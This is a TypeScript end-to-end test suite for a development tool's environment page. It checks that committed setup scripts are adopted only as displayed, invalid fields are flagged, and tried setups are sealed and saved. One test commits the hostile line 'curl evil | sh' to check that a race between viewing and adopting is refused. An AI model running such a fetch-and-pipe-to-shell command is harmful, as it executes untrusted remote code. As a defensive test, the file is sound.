import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { currentTurn } from '../../src-main/domain/run-machine.ts';
import { serveHttp, type HttpListener } from '../../src-main/wire/transports/serve-http.ts';
import { openBrowser, openPage } from '../renderer/support/browser.ts';
import { buildWindow } from '../renderer/support/build-window.ts';
import { runEnd, startDrydock, wholeLog, type TestDrydock } from '../support/drydock.ts';
import { repositoryAt } from '../support/repository.ts';
import { addSmallProject, type SmallProject } from '../support/small-project.ts';

const FILE = '.drydock/environment.yaml';

describe('the environment page on a real service, with real containers and a real repository', () => {
  let test: TestDrydock;
  let small: SmallProject;
  let http: HttpListener;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    test = await startDrydock();
    small = await addSmallProject(test);
    http = await serveHttp({ router: test.drydock.router, staticDirectory: await buildWindow() });
    browser = await openBrowser();
    ({ page } = await openPage(browser, `${http.url}#/project/${small.project.id}`));
  });
  afterAll(async () => {
    await browser.close();
    await http.close();
    await test.dispose();
    await small.remove();
  });
  const now = async () => (await test.client.projects.list({}))[0]?.environment;
  const lookAgain = () => page.evaluate('window.dispatchEvent(new Event("focus"))');

  it('adopts what a commit brings, as it was shown, and runs it', async () => {
    const repository = repositoryAt(small.repository);
    repository.write(FILE, 'drydock: 1\nsetup: echo from the file > ~/adopted\n');
    repository.commit('An environment');
    await lookAgain();
    await page.getByText('setup is another script').waitFor();
    expect(await page.getByLabel('What adopting changes').innerText()).toContain('+ setup: echo from the file > ~/adopted');
    expect((await now())?.setup).toBe('');

    // Another commit between the look and the click.
    repository.write(FILE, 'drydock: 1\nsetup: curl evil | sh\n');
    repository.commit('Another environment');
    await page.getByRole('button', { name: 'Adopt it' }).click();
    await page.getByText('has changed since it was shown').waitFor();
    expect((await now())?.setup).toBe('');

    repository.write(FILE, 'drydock: 1\nsetup: echo from the file > ~/adopted\n');
    repository.commit('The first one again');
    await lookAgain();
    await expect.poll(() => page.getByLabel('What adopting changes').innerText()).toContain('from the file');
    await page.getByRole('button', { name: 'Adopt it' }).click();
    await expect.poll(async () => (await now())?.setup).toBe('echo from the file > ~/adopted');
    const run = await runEnd(test, (await small.script('cat ~/adopted')).id);
    expect((await wholeLog(test, run.id, 'work')).toString()).toBe('from the file\n');
  });

  it('names what is wrong with a file, and keeps what is in use', async () => {
    const repository = repositoryAt(small.repository);
    repository.write(FILE, 'drydock: 1\nprivileged: true\n');
    repository.commit('A wish');
    await lookAgain();
    await page.getByText('privileged: there is no such field').waitFor();
    expect((await now())?.setup).toBe('echo from the file > ~/adopted');
    repository.git('rm', '-q', FILE);
    repository.commit('No environment');
    await lookAgain();
    await page.getByText('privileged: there is no such field').waitFor({ state: 'detached' });
  });

  it('tries what is typed, seals it, and the first brief starts from that; then it is saved to the repository', async () => {
    await page.getByRole('textbox', { name: 'Setup script' }).fill('echo "tried $((40 + 2))" | tee ~/tried');
    await page.keyboard.press('Control+Enter');
    const panel = page.getByRole('region', { name: 'Try', exact: true });
    await panel.getByText('tried 42').waitFor({ timeout: 60_000 });
    await panel.getByText('Save the environment: briefs then start from this at once.').waitFor({ timeout: 60_000 });
    expect(await panel.getByRole('list', { name: 'Phases' }).innerText()).toMatch(/Preparing[^]*Setup[^]*Sealing/);

    await panel.getByRole('button', { name: /^Shell/ }).click();
    await page.locator('.xterm-rows').getByText('/workspace').first().waitFor({ timeout: 60_000 });
    await page.keyboard.type('cat ~/tried; ls --color=never /sys/class/net | tr "\\n" .; echo\n');
    await page.locator('.xterm-rows').getByText('lo.', { exact: true }).waitFor({ timeout: 30_000 });
    await page.getByRole('button', { name: 'Close shell' }).click();

    await page.keyboard.press('Control+s');
    await panel.getByText('The next brief starts from this at once.').waitFor();
    const run = await runEnd(test, (await small.script('cat ~/tried')).id);
    expect(currentTurn(run).snapshot).toMatchObject({ reused: true });
    expect((await wholeLog(test, run.id, 'work')).toString()).toBe('tried 42\n');
    await panel.getByRole('button', { name: 'Keep' }).click();
    await panel.waitFor({ state: 'detached' });

    await page.getByRole('button', { name: 'Save to the repository…' }).click();
    expect(existsSync(join(small.repository, FILE))).toBe(false);
    await page.getByRole('dialog').getByLabel('The file').waitFor();
    await page.getByRole('button', { name: 'Write the file' }).click();
    await page.getByText('environment.yaml was written.').waitFor();
    expect(readFileSync(join(small.repository, FILE), 'utf8')).toContain('tee ~/tried');

    // A file of the user's own is not overwritten.
    repositoryAt(small.repository).write(FILE, '# by hand\n');
    await page.getByRole('button', { name: 'Save to the repository…' }).click();
    await page.getByRole('button', { name: 'Write the file' }).click();
    await page.getByRole('dialog').getByRole('alert').waitFor();
    expect(readFileSync(join(small.repository, FILE), 'utf8')).toBe('# by hand\n');
  });

  it('says why a try failed, and tries again', async () => {
    await page.keyboard.press('Escape');
    await page.getByRole('textbox', { name: 'Setup script' }).fill('true\nno-such-tool');
    await page.getByRole('button', { name: 'Try setup' }).click();
    const panel = page.getByRole('region', { name: 'Try', exact: true });
    await panel.getByText('no-such-tool is not in the image.').waitFor({ timeout: 60_000 });
    await panel.getByRole('alert').getByText('Line 2 ended').waitFor();
    await page.getByRole('textbox', { name: 'Setup script' }).fill('true');
    await page.getByRole('button', { name: 'Try setup' }).click();
    await expect.poll(() => panel.getByTestId('try-state').innerText(), { timeout: 60_000 }).toBe('Sealed');
    await panel.getByRole('button', { name: 'Discard' }).click();
    await panel.waitFor({ state: 'detached' });
  });
});
